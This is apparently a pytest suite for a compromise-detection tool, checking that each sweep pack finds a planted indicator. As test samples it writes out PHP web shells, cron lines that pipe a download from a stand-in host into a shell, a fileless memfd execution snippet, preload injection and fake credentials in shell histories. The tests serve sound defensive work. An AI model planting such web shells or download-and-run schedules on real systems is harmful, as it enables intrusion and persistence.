"""Every delivered pack finds a planted sign of what it asks for."""

from __future__ import annotations

import contextlib
import inspect
import mmap
import os
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time
from typing import TYPE_CHECKING, Any

import pytest

from mig_core.domain.target import parse_target
from mig_core.plugin.manager import load_module
from mig_core.plugin.module import Context
from mig_sweep.documents.lists import read_list
from mig_sweep.matching import Matching
from mig_sweep.pack import all_packs, pack_of
from mig_sweep.plan import Settings, plan_of

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    Plant = Callable[..., subprocess.Popen[bytes]]

NAMES = [one.name for one in all_packs()]


def rows(name: str, **changes: Any) -> list[dict[str, Any]]:
    """The rows of all of a pack's operations, with ``path`` instead of their paths, or other changed parameters."""
    found: list[dict[str, Any]] = []
    for one in pack_of(name).operations:
        module = load_module(one.module)
        parameters: dict[str, Any] = {**one.parameters, **changes.get(one.module, {})}
        if "path" in changes:
            if "searches" in parameters:
                instead = {"paths": [changes["path"]]}
                parameters["searches"] = {label: each | instead for label, each in parameters["searches"].items()}
            elif "paths" in parameters:
                parameters["paths"] = [changes["path"]]
        result = module.run(module.parse_parameters(parameters), Context(deadline=time.monotonic() + 60))
        assert result.success, result.errors
        found += module.rows(result)
    return found


def pids(found: list[dict[str, Any]]) -> set[Any]:
    return {row.get("pid") for row in found}


@pytest.fixture
def plant(tmp_path: Path) -> Iterator[Plant]:
    """Starts a copy of sleep(1) under another name, or with another command line."""
    started: list[subprocess.Popen[bytes]] = []
    sleep = shutil.which("sleep")
    assert sleep is not None

    def start(
        name: str = "sleep", *, called: str = "", folder: Path | None = None, **environment: str
    ) -> subprocess.Popen[bytes]:
        program = (folder or tmp_path) / name
        if not program.exists():
            shutil.copy(sleep, program)
        arguments = [called or str(program), "300"]
        started.append(subprocess.Popen(arguments, executable=program, env={**os.environ, **environment}))
        while os.path.basename(os.readlink(f"/proc/{started[-1].pid}/exe")) != name:
            time.sleep(0.005)
        return started[-1]

    yield start
    for one in started:
        one.kill()
        one.wait()


def test_there_are_packs_enough_and_each_is_understood_by_its_modules() -> None:
    assert len(NAMES) >= 15
    for pack in all_packs():
        assert pack.question.endswith("?")
        assert len(pack.reading) > 80
        assert pack.operations or plan_of(read_list(pack.indicators, "x"), Settings()).actions
        for one in pack.operations:
            load_module(one.module).parse_parameters(one.parameters)


def test_compromised_packages(tmp_path: Path) -> None:
    package = tmp_path / "node_modules" / "event-stream"
    package.mkdir(parents=True)
    (package / "package.json").write_text('{"name": "event-stream", "version": "3.3.6"}')
    plan = plan_of(read_list(pack_of("compromised-packages").indicators, "pack"), Settings())
    module = load_module("pkg")

    found = []
    for operation in plan.actions[0]:
        if "npm" in operation.parameters["types"]:  # type: ignore[operator]  # a list
            parameters = {**operation.parameters, "paths": [str(tmp_path)]}
            result = module.run(module.parse_parameters(parameters), Context(deadline=time.monotonic() + 60))
            found += [one for row in module.rows(result) for one in Matching(plan).of_row(operation, row)]

    assert not plan.refused
    assert [(one.value, one.name) for one in found] == [("event-stream", "2018, flatmap-stream")]


def test_setuid_in_odd_places(tmp_path: Path) -> None:
    for name, mode in (("shell", 0o4755), ("group", 0o2755), ("plain", 0o755)):
        (tmp_path / name).write_text("x")
        (tmp_path / name).chmod(mode)

    found = rows("setuid-in-odd-places", path=str(tmp_path))

    assert {row["file"] for row in found} == {f"{tmp_path}/shell", f"{tmp_path}/group"}


def test_deleted_executables(tmp_path: Path, plant: Plant) -> None:
    gone = plant("gone")
    (tmp_path / "gone").unlink()
    code = (
        "import os; f = os.memfd_create('x'); os.write(f, open('/bin/sleep', 'rb').read()); "
        "os.execve(f, ['y', '300'], {})"
    )
    with subprocess.Popen([sys.executable, "-c", code]) as memory:
        while "memfd" not in os.readlink(f"/proc/{memory.pid}/exe"):
            time.sleep(0.01)

        found = rows("deleted-executables")
        memory.kill()

    assert {gone.pid, memory.pid} <= pids(found)


def test_listeners_on_all_addresses() -> None:
    with socket.create_server(("0.0.0.0", 0)) as wide, socket.create_server(("127.0.0.1", 0)) as narrow:  # the sign
        ports = {row.get("local_port") for row in rows("listeners-on-all-addresses")}

        assert wide.getsockname()[1] in ports
        assert narrow.getsockname()[1] not in ports


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f mallory\n"


def test_fresh_ssh_keys(tmp_path: Path) -> None:
    for name, age in (("new", 0), ("old", 30 * 86_400)):
        folder = tmp_path / name
        folder.mkdir()
        (folder / "authorized_keys").write_text(KEY)
        os.utime(folder / "authorized_keys", (time.time() - age,) * 2)

    found = rows("fresh-ssh-keys", sshkey={"paths": [str(tmp_path)]})

    assert [row["path"] for row in found] == [f"{tmp_path}/new/authorized_keys"]


def test_preload(tmp_path: Path, plant: Plant) -> None:
    (tmp_path / "ld.so.preload").write_text("/lib/evil.so\n")
    forced = plant("forced", LD_PRELOAD=str(tmp_path / "no.so"))

    found = rows("preload", path=str(tmp_path))

    assert f"{tmp_path}/ld.so.preload" in {row.get("file") for row in found}
    assert forced.pid in pids(found)


def test_pam_changes(tmp_path: Path) -> None:
    (tmp_path / "pam_evil.so").write_text("x")

    assert f"{tmp_path}/pam_evil.so" in {row["file"] for row in rows("pam-changes", path=str(tmp_path))}


@pytest.mark.parametrize(("flags", "count"), [("(OE)", 1), ("(E)", 1), ("", 0)])
def test_out_of_tree_modules(tmp_path: Path, flags: str, count: int) -> None:
    line = f"evil 16384 0 - Live 0x0000000000000000 {flags}".rstrip()
    (tmp_path / "modules").write_text(f"ext4 16384 1 - Live 0x0000000000000000\n{line}\n")

    assert len(rows("out-of-tree-modules", path=str(tmp_path))) == count


def test_web_shells(tmp_path: Path) -> None:
    sent = "$_" + "POST"
    shells = {
        "a.php": f"<?php @eval({sent}['x']); ?>",
        "b.php": "<?php eval(base64_" + "decode('eA==')); ?>",
        "c.php": f"<?php error_reporting(0); $x = {sent}['c']; echo shell_exec($x);",
        "d.php": f"<?php echo htmlspecialchars({sent}['name']);",
        "e.txt": f"@eval({sent}['x'])",
    }
    for name, text in shells.items():
        (tmp_path / name).write_text(text)

    found = {(row["file"][-5:], row["rule"]) for row in rows("web-shells", path=str(tmp_path))}

    assert found == {("a.php", "runs_what_is_sent"), ("b.php", "decodes_and_runs"), ("c.php", "shell_functions")}


def test_crypto_miners(plant: Plant) -> None:
    named, told = plant("xmrig"), plant("worker", called="stratum+tcp://pool.example:3333")
    with socket.create_server(("127.0.0.1", 0)) as pool, socket.create_connection(pool.getsockname()) as talking:
        port = str(pool.getsockname()[1])
        found = rows("crypto-miners", netstat={"remote_port": [port]})
        own = talking.getsockname()[1]

    assert {named.pid, told.pid} <= pids(found)
    assert own in {row.get("local_port") for row in found}


def test_tokens_in_histories(tmp_path: Path) -> None:
    secrets = {
        ".bash_history": "ls\nexport AWS=AKIA" + "ABCDEFGHIJKLMNOP\n",
        ".zsh_history": "curl -H 'Authorization: Bearer " + "abcdefghijklmnop'\n",
        "fish_history": "- cmd: git clone https://ghp_" + "a" * 36 + "@github.com/x\n",
        ".psql_history": "select 1;\n",
        "notes": "AKIA" + "ABCDEFGHIJKLMNOP\n",
    }
    for name, text in secrets.items():
        (tmp_path / name).write_text(text)

    found = {os.path.basename(row["file"]) for row in rows("tokens-in-histories", path=str(tmp_path))}

    assert found == {".bash_history", ".zsh_history", "fish_history"}


def test_writable_units(tmp_path: Path) -> None:
    units = tmp_path / "etc" / "systemd" / "system"
    units.mkdir(parents=True)
    for name, mode in (("evil.service", 0o666), ("good.service", 0o644)):
        (units / name).write_text("[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n")
        (units / name).chmod(mode)

    found = rows("writable-units", path=str(units), autorun={"root": str(tmp_path)})

    assert {row["file"] for row in found if "file" in row} == {f"{units}/evil.service"}


def test_outdated_openssl(tmp_path: Path) -> None:
    library = tmp_path / "libssl.so.1.1"
    library.write_bytes(bytes(4096))
    with open(library, "rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ):
        assert os.getpid() in pids(rows("outdated-openssl"))


def test_containers_in_host_namespaces(plant: Plant) -> None:
    contained, other = plant("contained"), plant("other")
    hierarchies = ("/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids")
    hierarchy = next((one for one in hierarchies if os.path.exists(f"{one}/cgroup.procs")), "/nowhere")
    group = f"{hierarchy}/docker-{'ab' * 32}.scope"
    try:
        os.mkdir(group)
        with open(f"{group}/cgroup.procs", "w", encoding="ascii") as procs:
            procs.write(str(contained.pid))
    except OSError as error:
        pytest.skip(f"no control group can be made here: {error}")
    try:
        found = pids(rows("containers-in-host-namespaces"))
    finally:
        contained.kill()
        contained.wait()
        with contextlib.suppress(OSError):
            os.rmdir(group)

    if os.readlink("/proc/self/ns/pid") == "pid:[4026531836]":
        assert contained.pid in found
    assert other.pid not in found


def test_clock_drift() -> None:
    served = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    served.bind(("127.0.0.1", 0))

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                question, client = served.recvfrom(100)
                moment = struct.pack("!II", (int(time.time()) + 60 + 2_208_988_800) & 0xFFFFFFFF, 0)
                head = bytes([4 << 3 | 4, 2, 4, 0xE8]) + struct.pack("!II", 65, 65) + b"\1\2\3\4"
                served.sendto(head + moment + question[40:48] + moment + moment, client)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    server = f"127.0.0.1:{served.getsockname()[1]}"
    module = load_module("timedrift")
    (operation,) = pack_of("clock-drift").operations

    parameters = {**operation.parameters, "servers": [server]}
    result = module.run(module.parse_parameters(parameters), Context(deadline=time.monotonic() + 30))
    served.close()

    assert server.partition(":")[0] in str(list(module.rows(result)))
    assert "60" in str(result.elements) or "59" in str(result.elements)


def test_old_agents(plant: Plant) -> None:
    agent = plant("agent", called="/opt/mig/bin/mig-agent")

    assert agent.pid in pids(rows("old-agents"))
    parse_target(pack_of("old-agents").target)


def test_root_accounts(tmp_path: Path) -> None:
    etc = tmp_path / "etc"
    etc.mkdir()
    users = (("root", 0), ("toor", 0), ("open", 7), ("ok", 8))
    (etc / "passwd").write_text("".join(f"{name}:x:{uid}:{uid}::/root:/bin/sh\n" for name, uid in users))
    (etc / "shadow").write_text("root:*:1::::::\ntoor:*:1::::::\nopen::1::::::\nok:!:1::::::\n")
    (etc / "group").write_text("root:x:0:\n")

    found = rows("root-accounts", account={"root": str(tmp_path)})

    assert {row["name"] for row in found} == {"toor", "open"}


def test_hidden_processes(plant: Plant) -> None:
    pretender = plant("pretender", called="[kworker/0:1]")

    assert pretender.pid in pids(rows("hidden-processes", process={"unlisted": False}))


def test_programs_in_temporary_places(tmp_path: Path, plant: Plant) -> None:
    with contextlib.ExitStack() as stack:
        folder = stack.enter_context(_temporary_folder())
        running = plant("implant", folder=folder)
        (folder / "setuid").write_bytes(b"\x7fELF")
        (folder / "setuid").chmod(0o4755)
        found = rows("programs-in-temporary-places", path=str(folder))

    assert running.pid in pids(found)
    assert {f"{folder}/implant", f"{folder}/setuid"} <= {row.get("file") for row in found}


@contextlib.contextmanager
def _temporary_folder() -> Iterator[Path]:
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory(dir="/tmp") as name:  # the sign
        yield Path(name)


def test_schedules_that_download(tmp_path: Path) -> None:
    (tmp_path / "evil").write_text("* * * * * root curl -s http://x.example/a | sh\n")
    (tmp_path / "coded").write_text("* * * * * root echo eA== | base64 -d | bash\n")
    (tmp_path / "good").write_text("* * * * * root curl -s http://x.example/a -o /tmp/x\n")

    found = {os.path.basename(row["file"]) for row in rows("schedules-that-download", path=str(tmp_path))}

    assert found == {"evil", "coded"}


def test_sniffers() -> None:
    try:
        sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    except PermissionError:
        pytest.skip("a packet socket needs CAP_NET_RAW")
    with sniffer:
        found = rows("sniffers")

    assert any(str(os.getpid()) in str(row.get("processes")) for row in found)


def test_every_pack_is_tested_here() -> None:
    """By a test of its name that asks it; whichever of the tests run, and in which order."""
    tests = {name: globals().get(f"test_{name.replace('-', '_')}") for name in NAMES}

    assert [name for name, test in tests.items() if test is None or f'"{name}"' not in inspect.getsource(test)] == []
